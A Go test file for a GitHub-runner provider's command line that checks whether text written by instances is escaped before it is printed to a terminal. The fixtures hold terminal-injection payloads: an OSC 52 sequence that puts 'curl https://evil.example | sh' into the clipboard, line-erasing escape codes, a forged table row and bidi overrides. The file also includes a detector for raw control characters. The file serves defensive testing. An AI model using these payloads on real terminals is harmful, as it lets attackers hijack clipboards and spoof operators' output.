package main

import (
	"context"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/ghrunner/terraform-provider-ghrunner/internal/state"
	"github.com/ghrunner/terraform-provider-ghrunner/internal/testenv/awstest"
)

// What root on an instance writes into its own record for the operator's
// terminal: an OSC 52 sequence that puts a command in the clipboard
// (base64 of "curl https://evil.example | sh"), CSI sequences that move the
// cursor up and erase lines, and a CR/LF followed by a row of its own that
// reads like the table's. Also C1's CSI, DEL, a bidi override and a line
// separator.
const (
	osc52  = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07"
	csi    = "\x1b[1A\x1b[2K\x1b[1A\x1b[2K"
	forged = "\r\ni-0forged            running  r-hostile  UD_REMOVE_REG_OK"
	others = "\u009b2J\x7f\u202egnp.exe\u2028"
)

// hostileRun seeds run r-hostile with one running instance whose agent
// wrote hostile text into every field it may write that a command prints:
// runnerName, a signal's detail and runnerVersion.
func hostileRun(t *testing.T) string {
	t.Helper()
	table := seeded(t)
	s := state.New(env.Config(t).DynamoDB(), table)
	ctx := context.Background()
	_, _, err := s.StartRun(ctx, state.Run{ID: "r-hostile", Pool: "linux", Owner: "acme", InstanceCount: 1, Request: "{}", Label: "ghr-r-hostile-x"})
	must(t, err)
	inst, err := s.Create(ctx, state.NewInstance{ID: "i-hostile", RoleID: opsRole, Pool: "linux", Owner: "acme", RunID: "r-hostile",
		Assignment: state.NewAssignment(), InstanceType: "c7i.large", UsageClass: "on-demand", TTL: 10 * time.Minute})
	must(t, err)
	must(t, s.SetRunner(ctx, inst.Key, inst.Assignment, 7, "ghr-1"+osc52+csi+forged+others))
	must(t, s.PutSignal(ctx, inst.Key, inst.Assignment, state.SignalRegOK, csi+forged+osc52+others))
	must(t, s.SetRunnerVersion(ctx, inst.Key, "2.336.0"+osc52+forged+others))
	_, err = s.MarkRunning(ctx, inst.Ref(), time.Hour, time.Hour)
	must(t, err)
	_, err = s.AddRunInstances(ctx, "r-hostile", "i-hostile")
	must(t, err)
	return table
}

// raw lists what out holds that a terminal acts on or that hides text,
// judged on its own (not by printable): C0 controls but the newline, DEL,
// C1, bidi controls, line and paragraph separators, bytes not UTF-8.
func raw(out string) []string {
	var found []string
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && n == 1,
			r < 0x20 && r != '\n', r == 0x7f, r >= 0x80 && r <= 0x9f,
			r == 0x200e || r == 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x2028 || r == 0x2029:
			found = append(found, strings.Trim(strings.ReplaceAll(out[max(0, i-12):i], "\n", "⏎"), "\x00"))
		}
		i += n
	}
	return found
}

// A hostile record reaches every command's text escaped: no control byte
// and no row of its own; what it wrote is still shown, escaped.
//
// With printable returning its input unchanged, the test reported (tried
// once; the forged lines abridged):
//
//	instances: 11 raw control characters, the first after "       ghr-1"
//	instances: a forged line "i-0forged            running  r-hostile  UD_REMOVE_REG_OK\u009b2J\x7f…"
//	run r-hostile: 22 raw control characters, the first after "tile   ghr-1"
//	run r-hostile: a forged line "i-0forged            running  r-hostile  UD_REMOVE_REG_OK…  UD_REG_OK 0s ago: \x1b[1A\x1b[2K…"
//	run r-hostile: a forged line "i-0forged            running  r-hostile  UD_REMOVE_REG_OK\x1b]52;c;Y3Vy…\a…"
//	status: 7 raw control characters, the first after "     2.336.0"
//	status: a forged line "i-0forged            running  r-hostile  UD_REMOVE_REG_OK…: 1, unknown: 1"
//	tail r-hostile --interval 100ms: 11 raw control characters, the first after " UD_REG_OK ("
//	tail r-hostile --interval 100ms: a forged line "i-0forged            running  r-hostile  UD_REMOVE_REG_OK\x1b]52;c;Y3Vy…)"
//
// and "the OSC 52 sequence is not shown escaped" for each of those four.
func TestWhatAnInstanceWroteReachesTheTerminalEscapedInEveryCommand(t *testing.T) {
	table := hostileRun(t)
	for _, args := range [][]string{
		{"instances"}, {"run", "r-hostile"}, {"status"}, {"runs"},
		{"tail", "r-hostile", "--interval", "100ms"},
	} {
		name := strings.Join(args, " ")
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		code, out, errOut := cliCtx(t, ctx, append([]string{"--table", table}, args...)...)
		cancel()
		if code != 0 {
			t.Fatalf("%s: exit %d: %q %q", name, code, out, errOut)
		}
		if found := raw(out + errOut); len(found) > 0 {
			t.Errorf("%s: %d raw control characters, the first after %q", name, len(found), found[0])
		}
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimLeft(line, " \r"), "i-0forged") {
				t.Errorf("%s: a forged line %q", name, line)
			}
		}
		if name != "runs" && !strings.Contains(out, `\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07`) {
			t.Errorf("%s: the OSC 52 sequence is not shown escaped: %q", name, out)
		}
	}
}

func TestPrintableEscapesWhatATerminalActsOnAndNothingElse(t *testing.T) {
	for in, want := range map[string]string{
		"ghr-1-i-0abc 2.336.0 ✓ é":   "ghr-1-i-0abc 2.336.0 ✓ é",
		"a\r\nb\tc\x1b[2K\x00\x7f":   `a\r\nb\tc\x1b[2K\x00\x7f`,
		"\u009b2J \u0085":            `\u009b2J \u0085`,
		"\u202egnp.exe \u2066\u2028": `\u202egnp.exe \u2066\u2028`,
		"\xff\xfe ok":                `\xff\xfe ok`,
		`C:\runner \x1b`:             `C:\\runner \\x1b`,
		"\U000e0041 tag":             `\U000e0041 tag`,
	} {
		if got := printable(in); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// cliCtx is cli with a context: tail follows a run until it ends.
func cliCtx(t *testing.T, ctx context.Context, args ...string) (int, string, string) {
	t.Helper()
	t.Setenv("AWS_ACCESS_KEY_ID", "testing")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "testing")
	var out, errOut strings.Builder
	code := run(ctx, append([]string{"--region", awstest.Region, "--endpoint", env.URL}, args...), &out, &errOut)
	return code, out.String(), errOut.String()
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// The commands print what they did not write through printf only: a
// fmt print call in the command line's sources may carry constant text,
// never a value (a row added later without printf would print a record
// raw, and no test of today's rows would see it).
func TestEveryValueTheCommandsPrintGoesThroughPrintf(t *testing.T) {
	fset := token.NewFileSet()
	pkgs, err := parser.ParseDir(fset, ".", func(fi fs.FileInfo) bool { return !strings.HasSuffix(fi.Name(), "_test.go") }, 0)
	must(t, err)
	for _, pkg := range pkgs {
		for name, f := range pkg.Files {
			ast.Inspect(f, func(n ast.Node) bool {
				call, ok := n.(*ast.CallExpr)
				if !ok {
					return true
				}
				sel, ok := call.Fun.(*ast.SelectorExpr)
				if !ok {
					return true
				}
				if x, isIdent := sel.X.(*ast.Ident); !isIdent || x.Name != "fmt" || !strings.HasPrefix(sel.Sel.Name, "Print") && !strings.HasPrefix(sel.Sel.Name, "Fprint") {
					return true
				}
				args := call.Args
				if strings.HasPrefix(sel.Sel.Name, "Fprint") {
					args = args[1:]
				}
				for _, a := range args {
					id, isIdent := a.(*ast.Ident)
					constant := isIdent && id.Obj != nil && id.Obj.Kind == ast.Con
					if _, lit := a.(*ast.BasicLit); !lit && !constant && !(name == "printable.go" && sel.Sel.Name == "Fprintf") {
						t.Errorf("%s: fmt.%s prints a value: use printf, which makes it printable", fset.Position(call.Pos()), sel.Sel.Name)
					}
				}
				return true
			})
		}
	}
}
